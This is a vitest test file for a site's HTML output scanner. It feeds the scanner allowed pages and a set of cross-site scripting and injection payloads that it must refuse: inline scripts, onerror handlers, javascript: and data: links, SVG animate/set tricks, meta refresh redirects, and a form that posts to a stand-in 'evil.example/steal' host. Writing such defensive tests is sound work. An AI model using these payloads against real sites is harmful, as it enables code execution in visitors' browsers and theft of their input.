/** The output scan refuses what no template writes, whatever let it through upstream. */
import { describe, expect, it } from "vitest";
import { scanHtml } from "../scripts/pipeline/scan.ts";

describe("output scan", () => {
  it("accepts a page of our own: JSON-LD, links, pictures", () => {
    expect(
      scanHtml(
        '<html><head><script type="application/ld+json">{"a":1}</script></head><body><a href="https://wa.me/62812?text=x">x</a><img src="/img/a.jpeg" srcset="/img/a.jpeg 320w, /img/b.jpeg 640w" alt=""></body></html>',
      ),
    ).toEqual([]);
  });
  it("accepts the site's own search script and search form, and only those", () => {
    const owned = { scripts: new Set(["/assets/search.js"]), formActions: new Set(["/cari/"]) };
    expect(
      scanHtml(
        '<html><body><form action="/cari/" method="get"><input name="q"></form><script type="module" src="/assets/search.js"></script></body></html>',
        owned,
      ),
    ).toEqual([]);
    expect(
      scanHtml(
        '<html><body><script type="module" src="/assets/other.js"></script></body></html>',
        owned,
      ),
    ).toEqual(['<script src="/assets/other.js">']);
  });
  it.each([
    ["<script>alert(1)</script>", "<script> without an allowed type"],
    ['<script type="module" src="/x.js"></script>', '<script src="/x.js">'],
    [
      '<script type="module" src="/assets/search.js">alert(1)</script>',
      '<script src="/assets/search.js">',
    ],
    [
      '<form action="https://evil.example/steal" method="post"><input name="p"></form>',
      '<form action="https://evil.example/steal">',
    ],
    ['<form action="/cari/" method="post"></form>', '<form action="/cari/">'],
    ['<img src="x" onerror="alert(1)">', "onerror= attribute on <img>"],
    ['<a href="JavaScript:alert(1)">x</a>', 'href="JavaScript:alert(1)" on <a>'],
    ['<a href=" vbscript:msgbox(1)">x</a>', 'href=" vbscript:msgbox(1)" on <a>'],
    [
      '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
      'href="data:text/html;base64,PHNjcmlwdD4=" on <a>',
    ],
    ['<iframe src="https://example.com"></iframe>', "<iframe>"],
    ['<p style="background:url(x)">x</p>', "style= attribute on <p>"],
    [
      '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
      'xlink:href="javascript:alert(1)" on <a>',
    ],
  ])("refuses %s", (html, what) => {
    expect(scanHtml(`<html><body>${html}</body></html>`)).toContain(what);
  });

  // None of these is written by a template, so each is refused wherever it is.
  it.each([
    [
      '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
      '<meta http-equiv="refresh">',
    ],
    [
      '<META HTTP-EQUIV=Refresh CONTENT="0; URL=javascript:alert(1)">',
      '<meta http-equiv="Refresh">',
    ],
    ['<base href="https://evil.example/">', "<base>"],
    ['<object data="https://evil.example/x.swf"></object>', "<object>"],
    ['<embed src="https://evil.example/x.swf">', "<embed>"],
    [
      '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>',
      '<animate attributeName="href">',
    ],
    [
      '<svg><a><set attributeName="xlink:href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>',
      '<set attributeName="xlink:href">',
    ],
    [
      '<svg><animate attributeName="&#104;ref" values="javascript:alert(1)"/></svg>',
      '<animate attributeName="href">',
    ],
    [
      '<svg><rect width="9" height="9"><set attributeName="onmouseover" to="alert(1)"/></rect></svg>',
      '<set attributeName="onmouseover">',
    ],
  ])("refuses what could take the visitor away or run code: %s", (html, what) => {
    expect(scanHtml(`<html><head>${html}</head><body><p>x</p>${html}</body></html>`)).toEqual([
      what,
    ]);
  });

  it("lets through meta data and SVG animations that only move or fade", () => {
    expect(
      scanHtml(
        '<html><head><meta charset="utf-8"><meta name="robots" content="noindex"></head><body><svg><animate attributeName="opacity" values="0;1"/><animateTransform attributeName="transform" type="rotate"/></svg></body></html>',
      ),
    ).toEqual([]);
  });
});
